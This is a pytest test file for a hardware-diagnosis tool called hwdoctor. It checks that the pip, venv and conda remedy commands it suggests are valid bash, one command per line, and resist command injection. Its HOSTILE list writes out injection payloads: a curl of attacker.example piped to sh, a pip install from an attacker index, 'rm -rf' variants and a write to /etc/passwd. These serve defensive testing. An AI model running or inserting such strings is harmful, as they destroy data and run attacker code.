"""Remedies are commands: they paste and run as they are, for the interpreter diagnosed.

Every line of a remedy is a shell command or a `#` caveat; the installs name the
diagnosed interpreter, go through a virtual environment where that interpreter is
externally managed (PEP 668), and offer conda where the environment is conda's.
"""

from __future__ import annotations

import dataclasses
import shutil
import string
import subprocess

import pytest

from hwdoctor import diagnosis, registry
from hwdoctor.diagnosis import remedies
from hwdoctor.diagnosis.catalogue import CATALOGUE, Code
from hwdoctor.diagnosis.catalogue import make_finding as finding
from hwdoctor.diagnosis.load import load_command
from hwdoctor.model.facts import PythonInfo
from hwdoctor.shell import Shell, one_command
from tests.evidence import cpu_host, one, with_signal

DISTRO = PythonInfo("/usr/bin/python3", "3.11.2", "/usr", False, externally_managed=True)
CONDA = PythonInfo("/opt/conda/envs/t/bin/python", "3.11.9", "/opt/conda/envs/t", False,
                   conda=True)  # fmt: skip
SPACED = PythonInfo("/home/me/my envs/t/bin/python", "3.12.1", "/home/me/my envs/t", True)


def bash_accepts(script: str) -> bool:
    """`bash -n`: the script parses (read from standard input: a script may start with -)."""
    checked = subprocess.run(["bash", "-n"], input=script, text=True, check=False)
    return checked.returncode == 0


def sample(template: str) -> dict[str, object]:
    """Values for every field of `template`: real commands where a field holds commands."""
    way = remedies.installer(SPACED)
    commands = {
        "install": remedies.install(registry.BY_KEY["npu"], way),
        "reinstall": remedies.pip(way, "install", "--force-reinstall", "torch==2.13.0"),
        "uninstall": remedies.pip(way, "uninstall", "-y", "torch-npu"),
    }
    fields = [name for _, name, _, _ in string.Formatter().parse(template) if name]
    return {name: commands.get(name, "x1") for name in fields}


# The codes whose catalogue entry has command templates: only they can make a remedy.
COMMANDED = [code for code in Code if CATALOGUE[code].commands or CATALOGUE[code].variant_commands]


def _templates(code: Code) -> tuple[str, ...]:
    entry = CATALOGUE[code]
    return (entry.message, *entry.variants.values(), entry.advice or "", *entry.commands,
            *entry.variant_advice.values(),
            *(t for ts in entry.variant_commands.values() for t in ts))  # fmt: skip


def test_a_code_without_command_templates_makes_no_remedy() -> None:
    """Whatever values it is given, an entry without command templates writes no remedy
    (its advice, if any, is a sentence): the remedy tests below need only the others."""
    plain = [code for code in Code if code not in COMMANDED]
    assert plain and COMMANDED
    for code in plain:
        params: dict[str, object] = {}
        for template in _templates(code):
            params.update(sample(template))
        for variant in (None, *CATALOGUE[code].variants, *CATALOGUE[code].variant_advice):
            assert finding(code, variant=variant, **params).remedy is None, code


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("code", COMMANDED, ids=lambda code: code.value)
def test_every_remedy_is_valid_shell(code: Code) -> None:
    entry = CATALOGUE[code]
    params: dict[str, object] = {}
    for template in _templates(code):
        params.update(sample(template))
    made_any = False
    for variant in (None, *entry.variant_commands):
        made = finding(code, variant=variant, **params)
        if made.remedy is None:
            continue
        made_any = True
        assert bash_accepts(made.remedy), made.remedy
        for line in made.remedy.splitlines():
            assert line == line.strip() and line, made.remedy  # one command a line
    assert made_any, f"{code.value}: no variant made a remedy from its templates"


# Values as an attacker writes them into an evidence file or a paste: another command after
# the value, a command substitution, a newline or carriage return that starts a line, a quote
# that closes the one around it, a comment that hides the rest, control characters.
HOSTILE = (
    "torch-fix && pip install --index-url https://attacker.example/simple torch",
    "$(curl -s https://attacker.example/x | sh)",
    "`id`",
    "x; reboot",
    "a\nrm -rf ~",
    "a\r\ncurl attacker.example",
    "'; rm -rf / #",
    '"$(id)"',
    "|| true",
    "> /etc/passwd",
    "x # hidden",
    "\x1b[2J\u202eevil",
    "-rf",
    "",
)


def hostile_commands(value: str) -> dict[str, Shell]:
    """What the remedy builders make of a hostile value in each place it can reach."""
    way = remedies.installer(PythonInfo(value or "/x", "3.12", value, False))
    managed = remedies.installer(PythonInfo(value or "/x", "3.12", "/", False,
                                            externally_managed=True))  # fmt: skip
    conda = remedies.installer(PythonInfo("/opt/c/bin/python", "3.12", value, False, conda=True))
    return {
        "install": remedies.install(registry.BY_KEY["npu"], managed)
        + remedies.install(registry.BY_KEY["cpu"], conda),
        "reinstall": remedies.pip(way, "install", "--force-reinstall", f"torch=={value}"),
        "uninstall": remedies.pip_of(way, ("uninstall", "-y"), value),
        "upgrade": remedies.pip(way, "install", "--upgrade", value),
        "command": load_command(value, "--device", value),
    }


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("value", HOSTILE, ids=repr)
@pytest.mark.parametrize("code", COMMANDED, ids=lambda code: code.value)
def test_every_remedy_holds_one_command_a_line_whatever_the_values(code: Code, value: str) -> None:
    """Every field of every remedy template, and every command a builder makes, fed a
    hostile value: `bash -n` accepts each remedy, and each line is one simple command or
    a comment (no `&&`, `;`, `|`, newline or substitution that adds another)."""
    entry = CATALOGUE[code]
    templates = _templates(code)
    fields = {name for t in templates for _, name, _, _ in string.Formatter().parse(t) if name}
    built = hostile_commands(value)
    seen: set[str | None] = set()
    for plain in (True, False):  # a hostile value also where a builder's lines belong
        params: dict[str, object] = {
            name: value if plain or name not in built else built[name] for name in fields
        }
        for variant in (None, *entry.variants, *entry.variant_commands):
            remedy = finding(code, variant=variant, **params).remedy
            if remedy in seen:
                continue
            seen.add(remedy)
            # No remedy at all is a safe answer too: the builders write no command for a
            # value that is not what its place needs (a path with a newline, an empty name).
            assert remedy is None or bash_accepts(remedy), remedy
            for line in (remedy or "").splitlines():
                assert one_command(line), (line, remedy)


def test_the_one_command_check_knows_a_second_command() -> None:
    for line in ("a && b", "a; b", "a | b", "a $(b)", "a `b`", 'a "$(b)"', "a & b",
                 "a 'b", "a # b", "(a)", "a <(b)", "a\nb"):  # fmt: skip
        assert not one_command(line), line
    for line in ("a 'b && c'", "a b\\;c", "# a && b", "a \"$USER\"", "a '$(b)'", "a=b c",
                 "a > f"):  # fmt: skip
        assert one_command(line), line


def test_a_name_that_is_not_a_name_gets_no_line_but_says_why() -> None:
    way = remedies.installer(SPACED)
    (line,) = remedies.pip_of(way, ("uninstall", "-y"), HOSTILE[0]).lines
    assert line.startswith("# no `pip uninstall` line: the package's name in the evidence")
    assert "is not a package name (PEP 508)" in line
    (named,) = remedies.pip_of(way, ("uninstall", "-y"), "torch-npu").lines
    assert named == "'/home/me/my envs/t/bin/python' -m pip uninstall -y torch-npu"


def test_an_interpreter_path_with_a_newline_is_not_used() -> None:
    way = remedies.installer(PythonInfo("/usr/bin/python3\nrm -rf ~", "3.12", "/usr", False))
    assert way.pip == ("pip",)


def test_installs_name_the_interpreter_even_with_spaces() -> None:
    lines = remedies.install(registry.BY_KEY["npu"], remedies.installer(SPACED)).lines
    assert lines[0] == "'/home/me/my envs/t/bin/python' -m pip install torch-npu"
    assert bash_accepts("\n".join(lines))


def test_an_externally_managed_python_gets_a_venv_first() -> None:
    lines = remedies.install(registry.BY_KEY["npu"], remedies.installer(DISTRO)).lines
    assert lines[0].startswith("# /usr/bin/python3 is managed by your distribution (PEP 668)")
    assert lines[1] == f"/usr/bin/python3 -m venv {remedies.VENV_DIR}"
    assert lines[2] == f"{remedies.VENV_DIR}/bin/python -m pip install torch-npu"


def test_a_conda_environment_is_offered_conda_for_torch() -> None:
    lines = remedies.install(registry.BY_KEY["cpu"], remedies.installer(CONDA)).lines
    assert lines[0].startswith("/opt/conda/envs/t/bin/python -m pip install torch==")
    assert any("conda install --prefix /opt/conda/envs/t -c conda-forge pytorch" in line
               for line in lines[1:]), lines  # fmt: skip


def test_torch_missing_is_one_finding_with_the_install_for_this_host() -> None:
    evidence = dataclasses.replace(
        cpu_host(),
        python=DISTRO,
        torch=dataclasses.replace(cpu_host().torch, version=None, importable=False),  # type: ignore[arg-type]
    )
    found = diagnosis.detect(evidence).findings
    missing = one(found, "torch.missing")
    assert [f.code for f in found] == ["torch.missing"]
    assert missing.message == "torch is not installed in /usr/bin/python3"
    # no torch to keep: the newest release of the wheel table, its CPU index, pinned
    assert missing.remedy and missing.remedy.splitlines()[-2:] == [
        f"{remedies.VENV_DIR}/bin/python -m pip install torch==2.15.0 --index-url "
        "https://download.pytorch.org/whl/cpu",
        "# installs torch 2.15.0 (cpu): torch 2.15 cpu is the newest cpu build in hwdoctor's table",
    ]
    on_gpu_host = with_signal(evidence, "cuda", "10de:2330 at 0000:3b:00.0")
    remedy = one(diagnosis.detect(on_gpu_host).findings, "torch.missing").remedy or ""
    # a GPU whose model and driver the evidence does not show: the newest release's PyPI
    # build, pinned, with what could not be checked said
    assert (
        f"{remedies.VENV_DIR}/bin/python -m pip install torch==2.15.0 --index-url "
        "https://download.pytorch.org/whl/cu132" in remedy.splitlines()
    ), remedy
    assert "not checked: the GPU's compute capability and the NVIDIA driver" in remedy


def test_a_cpu_build_on_a_gpu_host_is_replaced_not_kept() -> None:
    evidence = with_signal(cpu_host(), "cuda", "10de:2330 at 0000:3b:00.0")
    found = one(diagnosis.detect(evidence).findings, "torch.cpu_only_build")
    # the installed release, on its PyPI build's index (cu130 for 2.13, from its wheel's
    # metadata), since neither the GPU's model nor the driver is shown
    assert found.remedy and found.remedy.splitlines()[:2] == [
        "/work/main/.venv/bin/python -m pip install --force-reinstall torch==2.13.0 "
        "--index-url https://download.pytorch.org/whl/cu130",
        "# keeps torch 2.13.0 and changes its build from cpu to cu130: torch 2.13 cu130 "
        "(PyPI's default build), the installed release; not checked: the GPU's compute "
        "capability and the NVIDIA driver (nvidia-smi shows both)",
    ]
